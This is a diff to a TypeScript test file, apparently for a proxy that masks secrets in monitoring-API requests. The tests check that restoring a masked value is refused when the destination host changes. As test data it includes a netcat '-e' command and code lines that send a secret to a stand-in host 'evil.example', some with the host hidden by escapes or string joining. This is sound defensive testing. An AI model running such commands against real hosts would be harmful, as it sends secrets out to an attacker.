@@ -8,6 +8,7 @@ import { everything, maskBoth, masksOf, operation, reply, restore, tokensIn } fr
 const getMonitor = operation("GET", "/api/v1/monitor/17");
 const putMonitor = operation("PUT", "/api/v1/monitor/17");
 const getTest = operation("GET", "/api/v1/synthetics/tests/abc-def-ghi");
+const putTest = operation("PUT", "/api/v1/synthetics/tests/abc-def-ghi");
 const patchTest = operation("PATCH", "/api/v1/synthetics/tests/abc-def-ghi");
 
 describe("a name that is a token of somewhere else names nothing", () => {
@@ -112,14 +113,84 @@ describe("a destination inside a text that holds a value", () => {
       (text) => `${text} --fail`,
       "restored",
     ],
+    [
+      "a bare host",
+      "nc -e 'password: hunter2hunter2' good.example 443",
+      (text) => text.replace("good.example", "evil.example"),
+      "destination",
+    ],
+    [
+      "a second host, with its port",
+      "password=hunter2hunter2 to good.example",
+      (text) => `${text} evil.example:8443`,
+      "destination",
+    ],
+    [
+      "an address in numbers",
+      "password=hunter2hunter2 to 192.0.2.1",
+      (text) => text.replace("192.0.2.1", "198.51.100.7"),
+      "destination",
+    ],
+    [
+      "a version and a sentence are no hosts",
+      "password=hunter2hunter2 for v1.2",
+      (text) => `${text.replace("v1.2", "1.25")}. And so on`,
+      "restored",
+    ],
   ])("%s", async ([, script, change, outcome]) => {
-    const read = JSON.parse(await reply(JSON.stringify({ options: { script } }), { of: getTest, masks })) as {
-      options: { script: string };
+    const read = JSON.parse(await reply(JSON.stringify({ options: { value: script } }), { of: getTest, masks })) as {
+      options: { value: string };
     };
-    expect(tokensIn(read.options.script)).toHaveLength(1);
-    const back = restore(JSON.stringify({ options: { script: change(read.options.script) } }), { of: patchTest });
+    expect(tokensIn(read.options.value)).toHaveLength(1);
+    const back = restore(JSON.stringify({ options: { value: change(read.options.value) } }), { of: patchTest });
     expect(back.outcomes).toEqual([outcome]);
   });
+});
+
+describe("a destination without a telling name, beside the value", () => {
+  const masks = masksOf({ fields: ["$.config.secret"] });
+  const outcomesOf = async (
+    [was, is]: readonly [string, string],
+    { of = putTest, member = "target" }: { readonly of?: typeof putTest; readonly member?: string } = {},
+  ): Promise<readonly string[]> => {
+    const body = { config: { secret: "hunter2hunter2", [member]: was } };
+    const { config } = JSON.parse(await reply(JSON.stringify(body), { of: getTest, masks })) as typeof body;
+    const written = JSON.stringify({ config: { secret: config.secret, [member]: is } });
+    return restore(written.replaceAll("ESCAPED DOT", "\\u002e"), { of }).outcomes;
+  };
+
+  test.for<[string, string, string]>([
+    ["a bare host", "good.example", "evil.example"],
+    ["a bare host with its port", "good.example:443", "evil.example:443"],
+    ["a host of letters that are no ASCII", "gut.example", "böse.example"],
+    ["an IPv4 address", "192.0.2.1", "198.51.100.7"],
+    ["a bare host in the place of a URL", "https://good.example/in", "evil.example"],
+    ["a name without dots in the place of a URL", "https://good.example/in", "evil"],
+    ["a URL in the place of a bare host", "good.example", "https://evil.example/in"],
+    ["a host inside of a program", "get('good.example', secret)", "get('evil.example', secret)"],
+    ["a URL inside of a program", "get('https://good.example', secret)", "get('https://evil.example', secret)"],
+    ["a host that was not there", "get(secret)", "get('evil.example', secret)"],
+    ["a host, hidden by an escape", "get('good.example')", "get('evilESCAPED DOTexample')"],
+  ])("%s", async ([, was, is]) => {
+    expect(await outcomesOf([was, is])).toEqual(["destination"]);
+    expect(await outcomesOf([was, is], { of: patchTest })).toEqual(["destination"]);
+    expect(await outcomesOf([was, was])).toEqual(["restored"]);
+    expect(await outcomesOf([was, was], { of: patchTest })).toEqual(["restored"]);
+  });
+
+  test.for(["script", "preRequestScript", "code", "javascript"])(
+    "a program that says so (%s) is one as a whole: it may put its address together",
+    async (member) => {
+      expect(await outcomesOf(["send(secret)", "send('ev' + 'il', secret)"], { member })).toEqual(["destination"]);
+    },
+  );
+
+  test.for(["query", "name", "description", "metric"])(
+    "in what is evaluated or shown (%s) words with dots are none",
+    async (member) => {
+      expect(await outcomesOf(["avg:system.cpu.user{*}", "avg:system.cpu.idle{*}"], { member })).toEqual(["restored"]);
+    },
+  );
 });
 
 describe("what stands beside the resource", () => {
